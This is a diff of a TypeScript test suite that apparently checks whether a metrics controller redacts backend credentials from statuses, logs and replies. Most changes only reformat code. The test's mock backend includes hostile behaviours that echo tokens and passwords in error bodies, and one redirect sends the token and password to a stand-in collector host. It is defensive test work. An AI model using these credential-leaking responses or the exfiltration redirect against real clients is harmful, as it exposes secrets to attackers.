@@ -37,7 +37,9 @@ const BASIC = Buffer.from(`${USERNAME}:${PASSWORD}`).toString('base64');
 
 const secrets: SecretReader = {
   async get(namespace, name) {
-    return namespace === 'default' && name === 'prom-creds' ? { token: TOKEN, username: USERNAME, password: PASSWORD } : undefined;
+    return namespace === 'default' && name === 'prom-creds'
+      ? { token: TOKEN, username: USERNAME, password: PASSWORD }
+      : undefined;
   },
 };
 
@@ -84,12 +86,24 @@ const metric = (name: string, spec: Partial<Metric['spec']>): Metric => ({
 
 function metrics(): Metric[] {
   return [
-    metric('bearer-latency', { authType: 'Bearer', headerTemplates: [{ name: 'Authorization', value: 'Bearer $token' }], urlTemplate: backend.queryUrl }),
+    metric('bearer-latency', {
+      authType: 'Bearer',
+      headerTemplates: [{ name: 'Authorization', value: 'Bearer $token' }],
+      urlTemplate: backend.queryUrl,
+    }),
     // The token in the query string.
-    metric('apikey-errors', { authType: 'APIKey', headerTemplates: [{ name: 'X-API-Key', value: '$token' }], urlTemplate: `${backend.queryUrl}?api_key=$token` }),
+    metric('apikey-errors', {
+      authType: 'APIKey',
+      headerTemplates: [{ name: 'X-API-Key', value: '$token' }],
+      urlTemplate: `${backend.queryUrl}?api_key=$token`,
+    }),
     metric('basic-requests', { authType: 'Basic', urlTemplate: backend.queryUrl }),
     // The token in the path, which error messages show.
-    metric('tenant-latency', { authType: 'APIKey', headerTemplates: [{ name: 'X-Scope-OrgID', value: 'team-a' }], urlTemplate: `${backend.origin}/tenants/$token/api/v1/query` }),
+    metric('tenant-latency', {
+      authType: 'APIKey',
+      headerTemplates: [{ name: 'X-Scope-OrgID', value: 'team-a' }],
+      urlTemplate: `${backend.origin}/tenants/$token/api/v1/query`,
+    }),
   ];
 }
 
@@ -100,7 +114,12 @@ const experiment: Experiment = {
   spec: {
     target: 'default/sample-app',
     strategy: { testingPattern: 'Conformance' },
-    criteria: { objectives: ['bearer-latency', 'apikey-errors', 'basic-requests', 'tenant-latency'].map((m) => ({ metric: m, upperLimit: 1000 })) },
+    criteria: {
+      objectives: ['bearer-latency', 'apikey-errors', 'basic-requests', 'tenant-latency'].map((m) => ({
+        metric: m,
+        upperLimit: 1000,
+      })),
+    },
     duration: { intervalSeconds: 10, iterationsPerLoop: 20 },
     versionInfo: { baseline: { name: 'current', variables: [{ name: 'revision', value: 'sample-app-v2' }] } },
   },
@@ -128,19 +147,41 @@ const authenticated: Behaviour = (exchange) => {
 const jqQuotes =
   (padding: number): Behaviour =>
   (exchange) =>
-    respond(200, JSON.stringify({ status: 'success', data: { result: [{ metric: {}, value: [1, `${'x'.repeat(padding)}${credentialOf(exchange)}`] }] } }))(exchange);
+    respond(
+      200,
+      JSON.stringify({
+        status: 'success',
+        data: { result: [{ metric: {}, value: [1, `${'x'.repeat(padding)}${credentialOf(exchange)}`] }] },
+      }),
+    )(exchange);
 
 const HOSTILE: Array<[string, (padding: number) => Behaviour]> = [
-  ['401 echoing the credential', () => (exchange) => respond(401, `invalid credentials: ${credentialOf(exchange)}`, { 'content-type': 'text/plain' })(exchange)],
+  [
+    '401 echoing the credential',
+    () => (exchange) =>
+      respond(401, `invalid credentials: ${credentialOf(exchange)}`, { 'content-type': 'text/plain' })(exchange),
+  ],
   ['401 HTML page listing the request headers', () => echoHeaders(401, 'html')],
   ['a JSON value jq quotes in its error', () => jqQuotes(0)],
   ['a JSON value jq quotes and cuts inside the secret', (padding) => jqQuotes(padding)],
-  ['a redirect to a URL holding the token', () => (exchange) => redirect(302, `http://collector.example:8080/t/${TOKEN}?k=${encodeURIComponent(PASSWORD)}`)(exchange)],
+  [
+    'a redirect to a URL holding the token',
+    () => (exchange) =>
+      redirect(302, `http://collector.example:8080/t/${TOKEN}?k=${encodeURIComponent(PASSWORD)}`)(exchange),
+  ],
   [
     'a Prometheus error quoting the credential',
-    () => (exchange) => respond(400, JSON.stringify({ status: 'error', errorType: 'bad_data', error: `bad auth: ${credentialOf(exchange)}` }))(exchange),
+    () => (exchange) =>
+      respond(
+        400,
+        JSON.stringify({ status: 'error', errorType: 'bad_data', error: `bad auth: ${credentialOf(exchange)}` }),
+      )(exchange),
   ],
-  ['a 500 echoing the request URL', () => (exchange) => respond(500, `failed: GET ${exchange.recorded.url}`, { 'content-type': 'text/plain' })(exchange)],
+  [
+    'a 500 echoing the request URL',
+    () => (exchange) =>
+      respond(500, `failed: GET ${exchange.recorded.url}`, { 'content-type': 'text/plain' })(exchange),
+  ],
   ['a timeout', () => slow(1000, authenticated)],
   ['a reset connection', () => resetMidResponse(vector(['1']), 5)],
 ];
@@ -187,7 +228,11 @@ describe('secrets of metric backends', () => {
       tasks: new OfflineTaskRunner(),
       fetch: fetchOptions,
     };
-    const handle = createHandler(source, { errorLimit: HOSTILE.length - 2, clock: () => now, log: (line) => logLines.push(line) });
+    const handle = createHandler(source, {
+      errorLimit: HOSTILE.length - 2,
+      clock: () => now,
+      log: (line) => logLines.push(line),
+    });
     const deliver = async (id: string) => {
       const cloudevent: CloudEventLike = {
         id,
@@ -207,17 +252,26 @@ describe('secrets of metric backends', () => {
       await deliver(`hostile-${index}`);
     }
     const final = store.experiment.status;
-    expect(final?.conditions?.find((c) => c.type === 'Failed')).toMatchObject({ status: 'True', reason: 'MetricBackendError' });
+    expect(final?.conditions?.find((c) => c.type === 'Failed')).toMatchObject({
+      status: 'True',
+      reason: 'MetricBackendError',
+    });
 
     // The secrets were really sent, and really came back: the checks below have something to find.
-    const sent = backend.requests.map((r) => `${r.url} ${r.headers.authorization ?? ''} ${r.headers['x-api-key'] ?? ''}`).join('\n');
-    for (const credential of [`Bearer ${TOKEN}`, `Basic ${BASIC}`, `api_key=${TOKEN}`, `/tenants/${TOKEN}/`]) expect(sent).toContain(credential);
+    const sent = backend.requests
+      .map((r) => `${r.url} ${r.headers.authorization ?? ''} ${r.headers['x-api-key'] ?? ''}`)
+      .join('\n');
+    for (const credential of [`Bearer ${TOKEN}`, `Basic ${BASIC}`, `api_key=${TOKEN}`, `/tenants/${TOKEN}/`])
+      expect(sent).toContain(credential);
     const statusTexts = store.acceptedStatuses.map((status) => JSON.stringify(status));
     expectNoLeak('outcome message', outcomeTexts);
     expectNoLeak('status', statusTexts);
     expectNoLeak('log line', logLines);
     expectNoLeak('reply', replies);
-    expectNoLeak('describe', store.acceptedStatuses.map((status) => renderDescribe({ ...experiment, status })));
+    expectNoLeak(
+      'describe',
+      store.acceptedStatuses.map((status) => renderDescribe({ ...experiment, status })),
+    );
 
     // ...and the backend's answers did carry them back, to be redacted (also where jq cut one short).
     expect(outcomeTexts.filter((text) => text.includes(REDACTED)).length).toBeGreaterThanOrEqual(HOSTILE.length);
@@ -246,7 +300,13 @@ describe('redactSecrets', () => {
   const forms = secretForms({ token: TOKEN, username: USERNAME, password: PASSWORD, region: 'eu' });
 
   it('replaces every form a secret travels in', () => {
-    const text = [TOKEN, encodeURIComponent(PASSWORD), JSON.stringify(PASSWORD), BASIC, Buffer.from(TOKEN).toString('base64')].join(' | ');
+    const text = [
+      TOKEN,
+      encodeURIComponent(PASSWORD),
+      JSON.stringify(PASSWORD),
+      BASIC,
+      Buffer.from(TOKEN).toString('base64'),
+    ].join(' | ');
     const redacted = redactSecrets(text, forms);
     expect(redacted).toBe(`${REDACTED} | ${REDACTED} | "${REDACTED}" | ${REDACTED} | ${REDACTED}`);
   });
